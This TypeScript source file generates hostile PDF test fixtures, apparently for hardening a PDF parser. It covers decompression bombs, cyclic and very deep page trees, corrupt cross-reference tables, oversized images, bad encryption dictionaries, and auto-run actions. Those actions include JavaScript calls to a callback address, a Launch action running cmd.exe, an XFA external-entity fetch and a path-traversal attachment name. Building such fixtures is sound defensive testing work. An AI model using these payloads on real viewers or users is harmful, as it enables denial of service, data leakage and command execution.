import { deflateSync } from "node:zlib";
import { bomb, type HostileDocument, of, onePage, pdf, stream } from "./hostile-bytes.ts";

const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
const drawn = (content: string, more = ""): Uint8Array => pdf(onePage(stream(Buffer.from(content)), more));
const packed = (data: Buffer | string, more = ""): Buffer =>
  stream(deflateSync(Buffer.from(data)), `/Filter /FlateDecode ${more}`);
const words = "BT /F1 12 Tf 72 700 Td (Asking Price: $10) Tj ET";

/** A page whose resources hold one object, which its content draws. */
const withObject = (object: Buffer, content = "/X0 Do", kind = "XObject"): Uint8Array =>
  pdf([
    catalog,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /${kind} << /X0 5 0 R >> >> >>`,
    stream(Buffer.from(content)),
    object,
  ]);
const picture = (width: number, height: number, filter: string, data: Buffer): Uint8Array =>
  withObject(
    stream(
      data,
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceGray ${filter}`,
    ),
    "q 600 0 0 700 0 0 cm /X0 Do Q",
  );

const runs = (bytes: number): Buffer => Buffer.alloc(Math.ceil(bytes / 128) * 2, Buffer.from([129, 32]));
const BOMBS: readonly HostileDocument[] = [
  ...[60, 200, 800].flatMap((megabytes) =>
    [1, 2, 3].map((times) =>
      of(`bomb-${megabytes}-packed-${times}.pdf`, () =>
        pdf(onePage(stream(bomb(megabytes, times), `/Filter [${"/FlateDecode ".repeat(times)}]`))),
      ),
    ),
  ),
  of("bomb-of-runs.pdf", () =>
    pdf(onePage(stream(deflateSync(runs(400_000_000)), "/Filter [/FlateDecode /RunLengthDecode]"))),
  ),
  of("bomb-of-letters.pdf", () =>
    pdf(onePage(stream(deflateSync(Buffer.alloc(90_000_000, "z")), "/Filter [/FlateDecode /ASCII85Decode]"))),
  ),
  of("bomb-of-objects.pdf", () =>
    pdf([
      catalog,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      page,
      stream(bomb(300, 1), "/Type /ObjStm /N 9000000 /First 10 /Filter /FlateDecode"),
    ]),
  ),
];

const chain = (length: number, end: string): string[] => [
  catalog,
  ...Array.from({ length }, (_, index) => `<< /Type /Pages /Kids [${index + 3} 0 R] /Count 1 >>`),
  end,
];
const TREES: readonly HostileDocument[] = [
  ...[1, 2, 3, 7].map((length) =>
    of(`tree-cycle-${length}.pdf`, () => pdf(chain(length, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"))),
  ),
  ...[100, 2_000, 20_000].map((length) => of(`tree-${length}-deep.pdf`, () => pdf(chain(length, page)))),
  of("kids-missing.pdf", () => pdf([catalog, "<< /Type /Pages /Count 7 >>"])),
  of("kids-a-number.pdf", () => pdf([catalog, "<< /Type /Pages /Kids 7 /Count 7 >>"])),
  of("count-below-zero.pdf", () => pdf([catalog, "<< /Type /Pages /Kids [3 0 R] /Count -5 >>", page])),
  of("parents-in-a-ring.pdf", () =>
    pdf([
      catalog,
      "<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R >>",
    ]),
  ),
  of("pages-2000.pdf", () =>
    pdf([
      catalog,
      `<< /Type /Pages /Kids [${Array.from({ length: 2_000 }, (_, index) => `${index + 3} 0 R`).join(" ")}] /Count 2000 >>`,
      ...Array.from({ length: 2_000 }, () => page),
    ]),
  ),
  of("ten-thousand-written-pages.pdf", () =>
    pdf([
      catalog,
      `<< /Type /Pages /Kids [${Array.from({ length: 10_000 }, () => "3 0 R").join(" ")}] /Count 10000 >>`,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
      stream(Buffer.from(words)),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]),
  ),
];

const broken = (change: (file: string) => string): Uint8Array =>
  Uint8Array.from(Buffer.from(change(Buffer.from(drawn(words)).toString("latin1")), "latin1"));
const REFERENCES: readonly HostileDocument[] = [
  of("before-itself.pdf", () =>
    broken((file) => file.replace("/Root", `/Prev ${file.indexOf("xref\n0")} /Root`)),
  ),
  of("before-in-streams.pdf", () =>
    broken((file) => file.replace("/Root", `/XRefStm ${file.indexOf("xref\n0")} /Root`)),
  ),
  of("start-far-away.pdf", () =>
    broken((file) => file.replace(/startxref\n\d+/, "startxref\n99999999999999")),
  ),
  of("start-below-zero.pdf", () => broken((file) => file.replace(/startxref\n\d+/, "startxref\n-9"))),
  of("no-trailer.pdf", () => broken((file) => file.replace("trailer", "trialer"))),
  of("size-of-billions.pdf", () => broken((file) => file.replace(/\/Size \d+/, "/Size 2147483647"))),
  of("table-of-billions.pdf", () => broken((file) => file.replace(/xref\n0 \d+/, "xref\n0 2147483647"))),
  of("root-is-a-page.pdf", () => broken((file) => file.replace("/Root 1 0 R", "/Root 3 0 R"))),
  of("root-is-itself.pdf", () => pdf(["1 0 R"])),
  of("length-in-a-ring.pdf", () => pdf(onePage(Buffer.from("<< /Length 4 0 R >>\nstream\nx\nendstream")))),
  of("length-of-billions.pdf", () =>
    pdf(onePage(Buffer.from("<< /Length 2147483647 >>\nstream\nx\nendstream"))),
  ),
];

const CONTENT: readonly HostileDocument[] = [
  of("form-in-itself.pdf", () =>
    withObject(
      stream(
        Buffer.from("/X0 Do /X0 Do"),
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 5 0 R >> >>",
      ),
    ),
  ),
  of("states-nested.pdf", () => pdf(onePage(packed("q ".repeat(3_000_000))))),
  of("marks-nested.pdf", () => pdf(onePage(packed("/Span BMC ".repeat(900_000))))),
  of("arrays-in-content.pdf", () => pdf(onePage(packed("[".repeat(900_000))))),
  of("strings-without-end.pdf", () => pdf(onePage(packed(`BT (${"(".repeat(900_000)}`)))),
  of("numbers-without-end.pdf", () => drawn(`${"9".repeat(300_000)} Td ${words}`)),
  of("place-not-a-number.pdf", () => drawn("BT /F1 1e999 Tf -1e999 1e999 Td (Asking Price: $10) Tj ET")),
  of("inline-picture.pdf", () => drawn(`BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID ${"x".repeat(90_000)} EI`)),
  of("sheet-of-miles.pdf", () =>
    pdf([
      catalog,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] /Contents 4 0 R >>",
      stream(Buffer.from("0 0 9999999 9999999 re f")),
    ]),
  ),
  of("sheet-of-nothing.pdf", () =>
    pdf([
      catalog,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Contents 4 0 R >>",
      stream(Buffer.from("0 0 9 9 re f")),
    ]),
  ),
  of("font-names-bomb.pdf", () =>
    pdf([
      ...onePage(stream(Buffer.from(words))).slice(0, 4),
      "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [5 0 R] >>",
      packed(
        `/CIDInit /ProcSet findresource begin 1 beginbfrange <0000> <ffffffff> <0041> endbfrange ${"1 beginbfrange <0000> <ffff> <0041> endbfrange ".repeat(20_000)}`,
      ),
    ]),
  ),
];

const shade = Buffer.alloc(400_000, 120);
const PICTURES: readonly HostileDocument[] = [
  of("picture-of-billions.pdf", () => picture(100_000, 100_000, "/Filter /FlateDecode", bomb(300, 1))),
  of("picture-dct.pdf", () =>
    picture(
      65_500,
      65_500,
      "/Filter /DCTDecode",
      Buffer.from("ffd8ffc00011080fffffff03011100021101031101ffd9", "hex"),
    ),
  ),
  of("picture-jpx.pdf", () => picture(30_000, 30_000, "/Filter /JPXDecode", shade)),
  of("picture-jbig2.pdf", () => picture(30_000, 30_000, "/Filter /JBIG2Decode", shade)),
  of("picture-fax.pdf", () =>
    picture(
      60_000,
      60_000,
      "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>",
      shade,
    ),
  ),
  of("picture-lzw.pdf", () => picture(30_000, 30_000, "/Filter /LZWDecode", shade)),
  of("picture-below-zero.pdf", () => picture(-5, -5, "/Filter /FlateDecode", deflateSync(shade))),
];

/** What a viewer would do by itself, with an address that counts who comes. */
const actionsOf = (address: string): readonly HostileDocument[] =>
  (
    [
      [
        "script-fetch",
        `/OpenAction << /S /JavaScript /JS (this.submitForm\\('${address}/a'\\); app.launchURL\\('${address}/b'\\)) >>`,
      ],
      [
        "script-names",
        `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('${address}/c'\\)) >>] >> >>`,
      ],
      ["launch", `/OpenAction << /S /Launch /F (${address}/d) /Win << /F (cmd.exe) /P (/c calc) >> >>`],
      ["address", `/OpenAction << /S /URI /URI (${address}/e) >>`],
      ["other-file", `/OpenAction << /S /GoToR /F << /FS /URL /F (${address}/f) >> /D [0 /Fit] >>`],
      ["submit", `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${address}/g) >> >>`],
      ["import", `/OpenAction << /S /ImportData /F (${address}/h) >>`],
      [
        "form-xfa",
        `/AcroForm << /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE a [<!ENTITY x SYSTEM "${address}/i">]>&x;</xdp:xdp>) >>`,
      ],
      ["metadata", `/Metadata << /F (${address}/j) /FFilter /FlateDecode >>`],
      [
        "attached",
        `/Names << /EmbeddedFiles << /Names [(../../x) << /F (../../x) /EF << /F 4 0 R >> >>] >> >>`,
      ],
    ] as const
  ).map(([name, more]) => of(`acts-${name}.pdf`, () => drawn(words, more)));

const LOCKS: readonly HostileDocument[] = (
  [
    [1, 2],
    [2, 3],
    [4, 4],
    [5, 5],
    [5, 6],
    [9, 9],
  ] as const
).map(([version, revision]) =>
  of(`locked-${version}-${revision}.pdf`, () =>
    broken((file) =>
      file.replace(
        "/Root",
        `/ID [<00><00>] /Encrypt << /Filter /Standard /V ${version} /R ${revision} /Length 256 /P -4 /O <${"00".repeat(48)}> /U <${"00".repeat(48)}> /OE <${"00".repeat(32)}> /UE <${"00".repeat(32)}> /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF >> /Root`,
      ),
    ),
  ),
);

export const hostilePdfs = (address: string): readonly HostileDocument[] => [
  ...BOMBS,
  ...TREES,
  ...REFERENCES,
  ...CONTENT,
  ...PICTURES,
  ...actionsOf(address),
  ...LOCKS,
];
